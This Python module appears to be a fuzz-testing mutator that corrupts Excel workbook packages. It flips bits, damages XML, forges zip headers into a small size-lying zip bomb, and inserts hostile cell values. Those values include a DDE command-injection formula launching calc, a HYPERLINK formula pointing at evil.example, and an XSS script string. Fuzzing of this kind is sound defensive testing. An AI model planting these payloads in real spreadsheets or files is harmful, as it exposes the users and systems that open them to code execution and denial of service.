"""A seeded mutator of workbooks for the fuzz test: byte flips, XML damage, parts
deleted, duplicated or emptied, parts unpacking past their declared size, hostile cell
values (decimal commas, invisible characters, formula-looking text) and defined names.
Each mutant is made from one good package by one random mutation; the seed makes a
failure repeatable."""

from __future__ import annotations

import random
import re
import struct
import warnings
import zipfile
import zlib
from pathlib import Path

HOSTILE_TEXT = [
    "[/x]", "[bold red]x[/]", ":warning:", "$\\undefinedcmd$", "US$ 5 and $10", "=1+1",
    "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\x0b\x00\x1f", "\ufffe", "ใช่\r\nไม่ใช่",
    "<script>alert(1)</script>", "&amp;&lt;", "A" * 40_000, "", " ", "๔", "๑๒๓.๕", "1e308",
    "-1e308", "nan", "inf", "#N/A", "TRUE", "'", "\u202e", "x" * 32,
    # decimal commas and other separators people type; invisible characters and SARA AM
    # typed as two characters in ids, names and answers; text that looks like a formula
    "5,0", "1,2", "12,34", "1_0", "1,234", "1,234.5", "๕,๐", "D01\u200b", "\u200bใช่",
    "ใช่\u2060", "\ufeffD01", "กระทรวงส\u0e4d\u0e32รวจ", "น\u0e4d\u0e48\u0e32", "~$D01",
    '=HYPERLINK("http://evil.example/?"&"', '","Click for details")', "\ufeff=1+1",
]
HOSTILE_NUMBERS = ["1e308", "-0", "NaN", "INF", "1E+400", "0x10", "", "1.5.5", "٣", "5,0", "1_0",
                   "1,234"]
NAME_TEXTS = ["'Framework'!$D:$D", "OFFSET('Framework'!$A$14,0,0,4,3)", "#REF!",
              "'Framework'!$B$2:$C$3", "'Nope'!$A$1", "", "Framework!A1", "1+1",
              "'Framework'!$A$1048576", "'Framework'!$XFD$1"]


def _parts(path: Path) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(path) as zf:
        return [(info, zf.read(info.filename)) for info in zf.infolist()]


def _write(target: Path, items: list[tuple[str, bytes]]) -> None:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a duplicated part name is the point of that mutant
        for name, data in items:
            zout.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data,
                          compress_type=zipfile.ZIP_DEFLATED)


def _xml_damage(rng: random.Random, data: bytes) -> bytes:
    text = data.decode("utf-8", "replace")
    kind = rng.randrange(8)
    if kind == 0:                                        # cut short
        return data[:rng.randrange(len(data) + 1)]
    if kind == 1:                                        # one element removed
        tags = list(re.finditer(r"<[A-Za-z][^>]*/>", text))
        if tags:
            m = rng.choice(tags)
            return (text[:m.start()] + text[m.end():]).encode()
    if kind == 2:                                        # an attribute value changed
        attrs = list(re.finditer(r'="([^"]*)"', text))
        if attrs:
            m = rng.choice(attrs)
            new = rng.choice(["", "-1", "99999999", "A0", "ZZZZ1", "x:y", "1:0", "&#0;", "r"])
            return (text[:m.start(1)] + new + text[m.end(1):]).encode("utf-8", "replace")
    if kind == 3:                                        # a namespace prefix on every tag
        return re.sub(r"<(/?)(?![?!])([A-Za-z]+)([ />])", r"<\1q:\2\3",
                      text.replace('xmlns="', 'xmlns:q="', 1)).encode()
    if kind == 4:                                        # invalid UTF-8 byte
        i = rng.randrange(len(data) + 1)
        return data[:i] + bytes([rng.choice([0x80, 0x94, 0xC0, 0xFF])]) + data[i:]
    if kind == 5:                                        # row numbers dropped
        return re.sub(r'(<row\b[^>]*?)\s+r="\d+"', r"\1", text).encode()
    if kind == 6:                                        # numbers made odd
        values = list(re.finditer(r"<v>([^<]*)</v>", text))
        if values:
            m = rng.choice(values)
            return (text[:m.start(1)] + rng.choice(HOSTILE_NUMBERS) + text[m.end(1):]).encode()
    i = rng.randrange(len(data) + 1)                     # random bytes inserted
    return data[:i] + bytes(rng.randrange(256) for _ in range(rng.randrange(1, 8))) + data[i:]


def _hostile_cell(rng: random.Random, data: bytes) -> bytes:
    """A cell's value (or a new cell at an answer column) set to hostile text."""
    text = data.decode("utf-8")
    value = rng.choice(HOSTILE_TEXT)
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    escaped = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe]", lambda m: f"_x{ord(m.group()):04X}_", escaped)
    cells = list(re.finditer(r'<c r="([A-Z]+\d+)"[^>]*?(?:/>|>.*?</c>)', text, re.S))
    if not cells:
        return data
    m = rng.choice(cells)
    new = f'<c r="{m.group(1)}" t="inlineStr"><is><t xml:space="preserve">{escaped}</t></is></c>'
    return (text[:m.start()] + new + text[m.end():]).encode()


def _defined_name(rng: random.Random, data: bytes) -> bytes:
    text = data.decode("utf-8")
    names = list(re.finditer(r"(<definedName\b[^>]*>)([^<]*)(</definedName>)", text))
    if not names:
        return data
    m = rng.choice(names)
    value = rng.choice(NAME_TEXTS).replace("&", "&amp;")
    return (text[:m.start(2)] + value + text[m.end(2):]).encode()


def _lie_about_size(target: Path, part: str, original: bytes) -> None:
    """Patch the local and central headers of `part` to claim `original`'s size and CRC
    while its data unpacks to more (a zip bomb that passes size limits read from headers)."""
    data = bytearray(target.read_bytes())
    info = zipfile.ZipFile(target).getinfo(part)
    crc = zlib.crc32(original)
    struct.pack_into("<I", data, info.header_offset + 14, crc)
    struct.pack_into("<I", data, info.header_offset + 22, len(original))
    central = data.find(b"PK\x01\x02")
    while data[central + 46:central + 46 + len(part.encode())] != part.encode():
        central = data.find(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", data, central + 16, crc)
    struct.pack_into("<I", data, central + 24, len(original))
    target.write_bytes(bytes(data))


def mutate(source: Path, target: Path, seed: int) -> str:
    """Write one mutant of `source` to `target`; returns what was done (for messages)."""
    rng = random.Random(seed)
    items = _parts(source)
    kind = rng.choice(["flip", "flip", "xml", "xml", "xml", "cell", "cell", "cell", "name",
                       "delete", "duplicate", "empty", "zip64ish", "sizelie"])
    if kind == "flip":                                   # bits flipped in the raw file
        data = bytearray(source.read_bytes())
        for _ in range(rng.randrange(1, 4)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        target.write_bytes(bytes(data))
        return kind
    if kind == "zip64ish":                               # a lie in the central directory
        data = bytearray(source.read_bytes())
        end = data.rfind(b"PK\x05\x06")
        field = rng.choice([8, 10, 12, 16])
        size = 2 if field in (8, 10) else 4
        data[end + field:end + field + size] = struct.pack("<H" if size == 2 else "<I",
                                                           rng.randrange(1 << (8 * size)))
        target.write_bytes(bytes(data))
        return kind
    names = [info.filename for info, _ in items]
    xml_parts = [n for n in names if n.endswith((".xml", ".rels"))]
    sheets = [n for n in names if n.startswith("xl/worksheets/sheet")]
    out = [(info.filename, data) for info, data in items]
    if kind == "sizelie":                                # more bytes than the headers say
        part = rng.choice(xml_parts)
        original = dict(out)[part]
        tail = b" " * rng.choice([1, 4096, 3 * 1024 ** 2])
        _write(target, [(n, d + tail if n == part else d) for n, d in out])
        _lie_about_size(target, part, original)
        return f"{kind} {part}"
    if kind == "delete":
        gone = rng.choice(names)
        out = [(n, d) for n, d in out if n != gone]
        kind += f" {gone}"
    elif kind == "duplicate":
        name, data = rng.choice(out)
        out.append((name if rng.random() < 0.5 else name.upper(), data))
        kind += f" {name}"
    elif kind == "empty":
        gone = rng.choice(xml_parts)
        out = [(n, b"" if n == gone else d) for n, d in out]
        kind += f" {gone}"
    else:
        part = {"xml": lambda: rng.choice(xml_parts), "cell": lambda: rng.choice(sheets),
                "name": lambda: "xl/workbook.xml"}[kind]()
        edit = {"xml": _xml_damage, "cell": _hostile_cell, "name": _defined_name}[kind]
        out = [(n, edit(rng, d) if n == part else d) for n, d in out]
        kind += f" {part}"
    _write(target, out)
    return kind
